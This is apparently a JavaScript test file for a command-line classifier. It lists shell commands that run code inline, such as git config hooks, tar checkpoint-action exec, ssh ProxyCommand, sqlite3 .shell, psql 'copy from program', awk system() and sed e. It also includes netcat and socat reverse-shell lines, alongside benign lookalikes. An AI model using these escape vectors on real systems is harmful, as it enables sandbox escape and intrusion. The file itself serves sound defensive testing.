import { testCommandLines } from '@csc-fleet/test-kit/command-lines';

const inline = `
git -c alias.x=!id x
git -c core.sshCommand=_ fetch
git -c core.pager=_ log
git -C sub -c core.fsmonitor=_ status
git --config-env=core.editor=X commit
git -c protocol.ext.allow=always clone ext::sh
git --exec-path=/workspace x
git bisect run sh -c _
git submodule foreach _
git submodule --quiet foreach _
git rebase -x _ main
git rebase --exec=_ main
git difftool -x _
git clone -u _ a b
git clone --upload-pack=_ a b
git clone -c core.sshCommand=_ a b
git ls-remote --upload-pack=_ a
git grep -O_ x
git filter-branch --tree-filter _
tar -cf a.tar --to-command=_ x
tar xf a.tar --to-c=_
tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=_ x
tar --use-compress-program=_ -xf a.tar
tar -I _ -xf a.tar
tar -xf a.tar -I _
tar xIf _ a.tar
tar -cMF _ -f a.tar x
make --eval=_
make -f -
make -f /dev/stdin
make X!=_
make X=$(shell\tid)
make MAKEFLAGS=--eval=x
rsync -e _ a b
sort --compress-program=_ a
split --filter=_ a
gcc -wrapper sh,-c,id x.c
go run -exec _ x.go
cargo --config target.x.runner="sh" run
rg --pre _ x
dc -e _
sqlite3 -cmd .shell x.db
sqlite3 x.db .shell\tid
sqlite3 x.db .sh\tid
sqlite3 x.db .output\t|id
sqlite3 x.db select\tedit('a','id')
sqlite3 -cmd .system\tid x.db
psql -c \\!\tid
psql --command=\\!id
psql -c \\o\t|id
psql -c copy\ta\tfrom\tprogram\t'id'
psql -o |id -c select
mysql -e \\!\tid
mysql --execute=system\tid
mysql -e select\t1;\tsystem\tid
mysql --pager=_ -e x
ssh -o ProxyCommand=_ host
ssh -oProxyCommand=_ host
ssh -o proxycommand\tid host
ssh -o PermitLocalCommand=yes -o LocalCommand=_ host
ssh host -o ProxyCommand=_
scp -o ProxyCommand=_ a b:
sftp -o KnownHostsCommand=_ b
nc -e /bin/sh host 1
ncat --sh-exec _ host 1
socat TCP:h:1 EXEC:_
socat SYSTEM:_ -
socat - stdio!!exec:_
npm ci --node-options=--import=data:text/javascript,_
sqlite3 -cmd .shell\tid x.db
sqlite3 x.db .once\t|id
sqlite3 x.db .import\t"|id"\tt
sqlite3 x.db .once\t-e
sqlite3 x.db .load\t./x.so
sqlite3 x.db .excel
duckdb -c .shell\tid
psql -c \\echo\t\`id\`
psql -c \\g\t|id
psql -c \\copy\tt\tfrom\tprogram\t'id'
psql -L |id
mysql -e system\tid
mysqlsh --py -e import\tos
ssh -F /dev/stdin host
ssh -I ./x.so host
sftp -b - host
apt-get -o DPkg::Pre-Invoke::=id update
apt -oAPT::Update::Post-Invoke::=id update
dpkg --pre-invoke=id -i x.deb
rpm --eval %(id)
node --import /dev/stdin x.js
node --import=file:///dev/stdin x.js
node -r /proc/self/fd/0 x.js
python3 -m cProfile -m timeit id
php php://stdin
npm config set script-shell /x/y
npm c set editor=x
npm pkg set scripts.test=id
npm pkg set --json scripts[test]=id
npm run x --script-shell=_
env npm_config_script-shell=x npm run x
env npm_config_git=x npm ci
env GOFLAGS=-toolexec=x go build
gawk -W source=BEGIN{system("id")}
sshpass -p x sh -c id
systemd-run sh -c id
tmux new-session id
pdflatex \\write18{id}
git filter-repo --commit-callback import\tos
m4 -Dx=syscmd(id)
yt-dlp --exec id x
nix-shell --run id
convert |id x.png
crontab -
git send-email --sendmail-cmd=id x
git send-email --sendmail-cmd id x
nc -e /bin/sh h 1
socat - EXEC:sh
awk BEGIN{system("id")}
mawk {print|"sh"}
gawk {"id"|getline;print}
awk -F: {print|"sort"} x
awk /"/;{"id"\t|\tgetline} x
awk {a/b;system("id")} x
awk {x++/"/;system("id")#/} x
awk {if(1)/"/;system("id");"} x
awk /[/]"/;{print|"sh"}#"/ x
awk {print\t/"/;system("id");"} x
awk {print("a|b")|"sh"} x
gawk -e BEGIN{f="sys";@f()}
gawk --source=BEGIN{system("id")}
awk -f -
awk -v x=1 -f /dev/stdin x
sed 1e x
sed s/a/id/e x
sed s,a,id,ge x
sed -n /x/,/y/{p;e\tid x
sed -e p -e e\tid x
sed --expression=s/x/id/e x
sed $!{s/[/]/x/;s/$/id/e} x
sed -f - x
`;

const notInline = `
make
make -j4 all
make -C sub CC=gcc X=1
make -f Makefile all
ls -c
grep -e pattern file
grep -c x file
cp -c a b
gcc -c x.c
gcc -E x.c
cc -o x x.c -lm
./configure --prefix=/x -c
git status
git log --oneline -c
git commit -c HEAD
git -C sub status
git -c user.name=x -c user.email=y commit -m z
git -c core.pager=cat log
git -c color.ui=false diff
git -c core.hooksPath=/dev/null commit
git -c core.fsmonitor=false status
git --no-pager log -p
git grep -e x
git rebase main
git bisect run ./test.sh -c
git clone -b main a b
git push origin main
tar -cf a.tar x
tar czf a.tar.gz x
tar xf a.tar -C out
tar -I zstd -cf a.tar.zst x
tar --checkpoint=100 --checkpoint-action=dot -cf a.tar x
tar --use-compress-program=pigz -cf a.tgz x
sort -k 2 x
sort --compress-program=gzip x
rsync -a a/ b/
go test ./... -run x
cargo test --config x.toml
cmake -B build -DX=1
cmake -E make_directory x
cmake --build build
ctest -E slow
awk {print\t$1} x
awk -F| {print\t$2} x
awk -F: -v x=1 $1==x||$2>3 x
awk -f x.awk -e y
awk /ERROR|WARN/{print\t$2} x
awk $3~/a@b/{print} x
awk BEGIN{OFS="|"}{print\t$1,$2} x
awk /systemd/{print} x
awk {n+=$3/2;s="a|b"}END{print\tn/NR,s} x
awk $1=="system"{print\t"a@b"} x
awk {print\ta[1]/2}/x|y/{print} x
gawk --csv {n++}END{print\tn} x
sed s/a/b/g x
sed -n 1,5p x
sed -i.bak s/one/the/ x
sed -i s/[/]/e/ x
sed -e s/a/b/ -e /e/d x
sed -E s/(e)/\\1e/ x
sed -n /begin/,/end/p x
sed 5q x
sed $d x
sed y/abc/efe/ x
sed -f x.sed x
sed /x/a\\e x
sed --sandbox s/a/b/ x
sqlite3 x.db select\t1
sqlite3 x.db .tables
sqlite3 x.db .mode\tcsv select\t1
psql -c select\t1
psql -f x.sql
mysql -e select\t1
ssh host uptime
ssh -o ProxyCommand=none -o StrictHostKeyChecking=yes host
scp -P 22 a b:
nc -zv host 1
socat TCP:h:1 STDIO
npm run build --loglevel=error
npm ci --node-options=--max-old-space-size=512
sqlite3 x.db .separator\t|
sqlite3 -cmd .timeout\t1000 x.db select\t1
sqlite3 x.db .mode\tlist .separator\t"|" select\t1
sqlite3 x.db .read\tx.sql
sqlite3 x.db .output\tx.csv
sqlite3 x.db .import\tx.csv\tt
psql -c \\copy\tt\tto\t'x.csv'\tcsv
psql -c select\tprogram\tfrom\tt
psql -c \\d
psql -c \\timing -c select\t1
psql -o x.txt -c select\t1
mysql -e select\t'\\\\e\tsystem'
git commit -m fix:\ta|b\t!x
git commit -m ext::x
git commit -m !x
git commit --message=system("id")
git commit -am x
ssh -o StrictHostKeyChecking=no host
npm config get script-shell
npm config set registry x
npm pkg get scripts
npm pkg set version=1
npm version patch -m x
apt-get -o Acquire::Retries=3 update
node --import ./x.mjs x.js
less +/a x
convert a.png -resize 50% b.png
curl -o x https://x
go build ./...
pdflatex x.tex
jq .a|.b x
grep a|b x
gcc -o x x.c
dc -f x.dc
vim x
`;

const onlyPiped = `
gdb ./prog
sqlite3 x.db
psql
mysql x
sftp h
at now
ed x
m4
dc
`;

testCommandLines({
  inline,
  notInline,
  onlyPiped,
  notPiped: /^(?:vim|sqlite3)/,
});
